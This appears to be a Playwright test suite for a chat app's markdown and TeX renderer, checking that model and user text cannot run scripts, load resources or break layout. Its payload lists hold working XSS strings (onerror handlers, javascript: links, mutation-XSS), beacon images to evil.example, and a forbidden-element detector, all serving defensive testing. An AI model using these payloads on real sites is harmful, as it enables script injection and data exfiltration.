"""What a model writes can neither run, nor load, nor lead astray."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import Page, expect

from tests.browser.conftest import Watch
from tests.browser.fake import FakeServer, says
from tests.browser.person import answer_to

pytestmark = pytest.mark.asyncio(loop_scope="session")

PAYLOADS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'><animate onbegin='window.pwned = 1'></svg>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<b onclick='window.pwned = 1' onmouseover='window.pwned = 1'>bold</b>",
    "<a href='javascript:window.pwned = 1'>click</a>",
    "[click](javascript:window.pwned=1) [c](JaVaScRiPt&colon;window.pwned=1) <javascript:window.pwned=1>",
    "[data](data:text/html,<script>window.pwned=1</script>)",
    "<style>*{display:none}</style><form action='//evil.example'><input name=q></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
    "<details open ontoggle='window.pwned = 1'><summary>s</summary></details>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "```html\n<img src=x onerror='window.pwned = 1'>\n```",
    "| a |\n|---|\n| <img src=x onerror='window.pwned = 1'> |",
    "![x](https://evil.example/steal?q=secret) <img src='https://evil.example/steal'>",
    '![x](javascript:window.pwned=1) !["onerror=window.pwned=1](https://evil.example/"onerror=window.pwned=1)',
    "[x]: https://evil.example/ 'title'\n\n![x] and ![y][x]",
    "<div id='transcript' class='question'>clobber</div><a name=chat>",
]

# What a formula is written in can ask for addresses, styles and classes as well, and for more than fits.
FORMULAS = [
    r"$\href{javascript:window.pwned=1}{x}$ and $\href{https://evil.example/?q=1}{x}$",
    r"$\url{javascript:window.pwned=1}$ and \(\url{https://evil.example/}\)",
    r"$\includegraphics[height=1em]{https://evil.example/x.png}$",
    r"$\htmlStyle{position:fixed;background:url(https://evil.example/)}{x}$ and $\style{color:red}{x}$",
    r"$\class{question}{x}$ and $\id{transcript}{x}$, $\cssId{transcript}{x}$, $\data{onclick=pwned=1}{x}$",
    r"$\text{<img src=x onerror=window.pwned=1>}$ and $<img src=x onerror=window.pwned=1>$",
    r"$\color{url(https://evil.example/)}x$ and $\colorbox{red;background:url(//evil.example)}{x}$",
    r"$\label{transcript} x \ref{transcript}$ and $\tag{<b onclick=pwned=1>} x$",
    r"$\rule{99999em}{99999em}$ and $\kern{-99999em} x$ and $\raisebox{99999em}{x}$ and $\pmb{x}$",
    r"$\def\a{\a\a}\a$ and $\newcommand{\b}{\b}\b$ and $\let\c\d$",
    "$$\n\\href{javascript:window.pwned=1}{\\frac{1}{2}}\n$$",
    "\\[\n<script>window.pwned = 1</script>\n\\]",
]

LISTINGS = [
    "```js\nconst a = '<img src=x onerror=\"window.pwned = 1\">'; // <script>window.pwned = 1</script>\n```",
    "```xml\n<script>window.pwned = 1</script><style>*{display:none}</style><img src=x onerror=pwned=1>\n```",
    "```md\n[x](javascript:window.pwned=1) ![y](https://evil.example/y.png) <img src=x>\n```",
    "```html onload=window.pwned=1 <script>\n<svg onload='window.pwned = 1'>\n```",
    "1. item\n   ```php\n   <?php echo '<img src=x onerror=pwned=1>'; ?><script>pwned = 1</script>\n   ```",
    "```constructor\n__proto__\n```\n```__proto__\nx\n```",
]

# Says what in an element could run, load, move or pretend; an empty list: nothing.
DANGERS = r"""() => {
    const forbidden = "script, style, iframe, object, embed, form, input, img, base, meta, link, maction,"
        + "annotation, svg:not(.icon), math:not(.formula > *), [style]:not(.formula *)";
    const named = /^on|^(?:id|name|src|srcdoc|action|formaction|xlink:href)$/;
    const safe = /^(?:https?:\/\/|mailto:|#icon-)/;
    window.dangers = (root) => {
        const found = [...root.querySelectorAll(forbidden)].map((element) => element.outerHTML);
        for (const element of root.querySelectorAll("*")) {
            for (const { name, value } of element.attributes) {
                const leads = name === "href" && (!safe.test(value) || element.closest("math"));
                const moves = name === "style" && /url|fixed|sticky/.test(value);
                if (named.test(name) || leads || moves) found.push(`${name}=${value}`);
            }
        }
        if (window.pwned) found.push("it ran");
        return found;
    };
}"""


async def test_hostile_text_arriving_character_by_character_does_nothing(
    page: Page, fake: FakeServer
) -> None:
    await page.evaluate(DANGERS)
    for payload in PAYLOADS + FORMULAS + LISTINGS:
        prose = await answer_to(page, fake, *payload, "\n\nThe end.")
        await expect(prose).to_contain_text("The end.")
        assert await prose.evaluate("(root) => dangers(root)") == [], payload


async def test_hostile_text_cut_anywhere_does_nothing(page: Page) -> None:
    """In two pieces, cut between any two characters: what is shown in between, and at the end."""
    await page.evaluate(DANGERS)
    for payload in PAYLOADS + FORMULAS + LISTINGS:
        found = await page.evaluate(
            """async (text) => {
                const { MarkdownView } = await import("/static/render/markdown.js");
                const frame = () => new Promise(requestAnimationFrame);
                const box = document.createElement("div");
                document.querySelector("#transcript").append(box);
                const views = Array.from(text, (_, i) => {
                    const root = document.createElement("div");
                    box.append(root);
                    const view = new MarkdownView(root);
                    view.grow(text.slice(0, i));
                    return view;
                });
                await frame(); await frame();
                const halfway = dangers(box);
                await Promise.all(views.map((view) => view.finish(text)));
                await frame(); await frame();
                const whole = dangers(box);
                const looks = new Set(Array.from(box.children, (root) => root.textContent));
                box.remove();
                return [halfway, whole, looks.size];
            }""",
            payload,
        )
        assert found == [[], [], 1], payload


async def test_formulas_that_would_not_end_or_not_fit_are_shown_as_their_source(page: Page) -> None:
    bombs = [
        "{" * 3000 + "x" + "}" * 3000,
        r"\sqrt{" * 600 + "x" + "}" * 600,
        r"\frac{1}{" * 400 + "x" + "}" * 400,
        r"\left(" * 500 + "x" + r"\right)" * 500,
        r"\def\a{xxxxxxxxxxxxxxxx}" + r"\a" * 900,
        r"\begin{matrix}" + "a&" * 1900 + r"\end{matrix}",
        "x" * 5000,
        "^{_" * 1000,
    ]
    shown = await page.evaluate(
        """async (bombs) => {
            const { MarkdownView } = await import("/static/render/markdown.js");
            const root = document.createElement("div");
            document.querySelector("#transcript").append(root);
            const view = new MarkdownView(root);
            await view.finish(["$$z^2$$", ...bombs.map((tex) => `$$${tex}$$`)].join("\\n\\n"));
            while (!root.querySelector(".formula")) await new Promise(requestAnimationFrame);
            await new Promise(requestAnimationFrame); await new Promise(requestAnimationFrame);
            const depth = (element) => 1 + Math.max(0, ...Array.from(element.children, depth));
            const formulas = [...root.querySelectorAll(".formula")];
            return [
                root.querySelectorAll("code.math").length,
                Math.max(...formulas.map((each) => each.querySelectorAll("*").length)) <= 4000,
                Math.max(...formulas.map(depth)) <= 70,
            ];
        }""",
        bombs,
    )
    assert shown == [len(bombs) - 1, True, True]


async def test_the_sanitiser_holds_without_the_markdown_step(page: Page, watch: Watch) -> None:
    """The renderer escapes most tags already; the gate behind it must not depend on that."""
    # The browser reports handlers and styles at the moment they are parsed, before they are taken out.
    watch.allow("Content Security Policy|policy violation")
    kept = await page.evaluate(
        """async (payloads) => {
            const { sanitise } = await import("/static/render/sanitise.js");
            return payloads.map((html) => {
                const box = document.createElement("div");
                box.append(sanitise(html));
                return box.innerHTML;
            });
        }""",
        PAYLOADS,
    )
    for html in kept:
        assert not re.search(r"<(script|img|svg|iframe|style|form|input|base|meta|math)", html), html
        assert not re.search(r"<[^>]*\s(on\w+|style|id|name)=", html), html
        assert not re.search(r"href=\"(?!https?:|mailto:)", html), html


async def test_tags_are_shown_as_the_text_they_are(page: Page, fake: FakeServer) -> None:
    prose = await answer_to(page, fake, "Use the <script> tag, H<sub>2</sub>O and <br> 1 < 2.")
    await expect(prose).to_have_text("Use the <script> tag, H2O and 1 < 2.")
    await expect(prose.locator("sub")).to_have_text("2")


async def test_an_image_is_a_link_that_says_where_to(page: Page, fake: FakeServer) -> None:
    prose = await answer_to(page, fake, "![A cat](https://pictures.example/cat.png)")
    chip = prose.get_by_role("link")
    await expect(chip).to_have_text("A cat pictures.example")
    await expect(chip).to_have_attribute("rel", "noopener noreferrer")
    await expect(chip).to_have_attribute("target", "_blank")


async def test_links_open_apart_and_show_their_target(page: Page, fake: FakeServer) -> None:
    prose = await answer_to(page, fake, "[your bank](https://evil.example/login)")
    link = prose.get_by_role("link", name="your bank")
    await expect(link).to_have_attribute("title", "https://evil.example/login")
    await expect(link).to_have_attribute("rel", "noopener noreferrer")


async def test_user_text_is_text(page: Page, fake: FakeServer) -> None:
    fake.scripts.append(says("ok"))
    hostile = "<img src=x onerror='window.pwned=1'> **not bold** [l](javascript:1)"
    await page.get_by_role("textbox", name="Message").fill(hostile)
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("article", name="You").locator(".question")).to_have_text(hostile)
    # The title in the list comes from the same text.
    await expect(page.locator("#conversations li")).to_contain_text("<img src=x")


async def test_the_policy_blocks_what_slips_through(page: Page, watch: Watch) -> None:
    watch.allow("policy violation|Content Security Policy|TrustedHTML")
    blocked = await page.evaluate(
        """async () => {
            const html = () => { document.createElement("div").innerHTML = "<b>x</b>"; };
            const leak = () => fetch("https://evil.example/");
            const outcome = async (act) => {
                try { await act(); return "allowed"; } catch { return "blocked"; }
            };
            return [await outcome(html), await outcome(leak)];
        }"""
    )
    assert blocked == ["blocked", "blocked"]


MARKDOWN = """# Title

A paragraph with **bold**, *italic*, `code` and a [link](https://example.com/a_(b)).
Second line.

1. First

2. Second
   - nested *item*

     more of it
3. Third

| a | b |
|---|--:|
| 1 | **2** |

> quoted
lazy

```py
def f():
    return "``"
```

- [x] done
- [ ] open

The sum $\\sum_i x_i$ of

$$
a_1 + a_2
$$

Setext
---

See [the docs][d] and ![pic](https://pictures.example/p.png).

[d]: https://example.com/docs
"""


async def test_growing_text_ends_as_the_same_page_as_the_text_at_once(page: Page) -> None:
    """Whatever the chunks: blocks that were kept while the text grew are what a single rendering gives."""
    grown, once = await page.evaluate(
        """async (text) => {
            const { MarkdownView } = await import("/static/render/markdown.js");
            const frame = () => new Promise(requestAnimationFrame);
            const grow = document.createElement("div"), whole = document.createElement("div");
            const view = new MarkdownView(grow);
            const coloured = (root) => root.querySelector(".hl") && root.querySelector(".formula");
            document.querySelector("#transcript").append(grow, whole);
            for (let end = 1; end <= text.length; end += 1) {
                view.grow(text.slice(0, end));
                if (end % 3 === 0) await frame();
            }
            await view.finish(text);
            await new MarkdownView(whole).finish(text);
            while (!coloured(grow) || !coloured(whole)) await frame();
            return [grow.innerHTML, whole.innerHTML];
        }""",
        MARKDOWN,
    )
    assert grown == once
    for part in (
        "<h1",
        "<strong>bold</strong>",
        "<table>",
        "<blockquote",
        "☑ done",
        "image-chip",
        "example.com/docs",
    ):
        assert part in once
    assert once.count("<ol") == 1


async def test_finished_blocks_keep_their_elements(page: Page) -> None:
    """A reader may select or copy in what is finished while the rest still grows."""
    kept = await page.evaluate(
        """async () => {
            const { MarkdownView } = await import("/static/render/markdown.js");
            const frame = () => new Promise(requestAnimationFrame);
            const root = document.createElement("div");
            const view = new MarkdownView(root);
            const shows = async (words) => { while (!root.textContent.includes(words)) await frame(); };
            view.grow("First.\\n\\n```\\ncode 1\\n"); await shows("code 1");
            const first = root.firstElementChild;
            const text = root.querySelector("code").firstChild;
            view.grow("First.\\n\\n```\\ncode 1\\ncode 2\\n"); await shows("code 2");
            const same = [first === root.firstElementChild, root.contains(text), text.data];
            await view.finish("First.\\n\\n```\\ncode 1\\ncode 2\\n```\\n\\nLast.");
            return [...same, first === root.firstElementChild, root.children.length];
        }"""
    )
    assert kept == [True, True, "code 1\ncode 2", True, 3]


async def test_a_list_with_blank_lines_is_one_list_while_it_grows(page: Page) -> None:
    """Between the blank line and the next number's dot, the next item looks like a paragraph."""
    lists = await page.evaluate(
        """async () => {
            const { MarkdownView } = await import("/static/render/markdown.js");
            const root = document.createElement("div");
            const view = new MarkdownView(root);
            const counts = [];
            const text = "1. a\\n\\n2. b\\n\\n3. c";
            for (const end of [7, 10, 13, 16]) {
                view.grow(text.slice(0, end));
                await new Promise(requestAnimationFrame);
                await new Promise(requestAnimationFrame);
                counts.push([root.querySelectorAll("ol").length, root.querySelectorAll("li").length]);
            }
            return counts;
        }"""
    )
    assert lists == [[1, 1], [1, 2], [1, 2], [1, 3]]


async def test_half_written_marks_do_not_flicker(page: Page) -> None:
    mended = await page.evaluate(
        """async (sources) => {
            const { mend } = await import("/static/render/mend.js");
            return sources.map(mend);
        }""",
        [
            "a **bo",
            "a **bold*",
            "a **bold**",
            "use `x",
            "see [docs](https://exa",
            "end\n``",
            "* a\n*",
            "a **",
        ],
    )
    assert mended == ["a **bo**", "a **bold**", "a **bold**", "use `x`", "see docs", "end\n", "* a\n", "a "]
